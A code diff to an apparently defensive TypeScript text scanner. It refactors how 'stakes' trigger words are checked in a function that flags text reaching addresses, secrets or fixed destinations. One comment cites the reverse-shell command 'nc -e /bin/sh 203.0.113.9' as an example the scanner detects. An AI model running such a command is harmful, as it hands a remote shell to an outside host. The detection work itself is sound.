@@ -100,7 +100,6 @@ const TRIGGERS: ReadonlySet<string> = new Set([
   'array',
   ...PASSED,
   ...SHOWN_TRIGGERS,
-  ...STAKES_TRIGGERS,
   'must',
   'should',
   'phased',
@@ -161,9 +160,11 @@ const IP = /\b(?!127\.|0\.0\.)(?:\d{1,3}\.){3}\d{1,3}\b/;
 export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean {
   const t = ts[i]!;
   const w = t.w;
+  // What is at stake in the person's request has words of its own, some common ("as", "add"): looked at alone.
+  const stakes = t.kind === 'word' && STAKES_TRIGGERS.has(w) && stakesReaches(ts, i, reach);
   // Most tokens are none of the words below: one lookup, and on (the reading stays a set lookup a token).
   if (t.kind === 'word' ? !TRIGGERS.has(w) && !w.startsWith('multipl') && !recordLike(w) : t.kind !== 'code')
-    return false;
+    return stakes;
   const next = ts[i + 1]?.w ?? '';
   const prev = ts[i - 1]?.w ?? '';
   // "must" and "should" are read here for one thing only, and are common: one look, and on.
@@ -171,8 +172,7 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
     if (headParamHoldsSecret(ts, i, next)) reach.add('misfiled');
     return false;
   }
-  let directs = shownReaches(ts, i, reach);
-  if (stakesReaches(ts, i, reach)) directs = true;
+  let directs = shownReaches(ts, i, reach) || stakes;
   // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
   if (t.kind === 'code' && IP.test(t.raw)) reach.add('address');
   // An order to send to a destination fixed in the text: "send the query to "hr-salaries"".
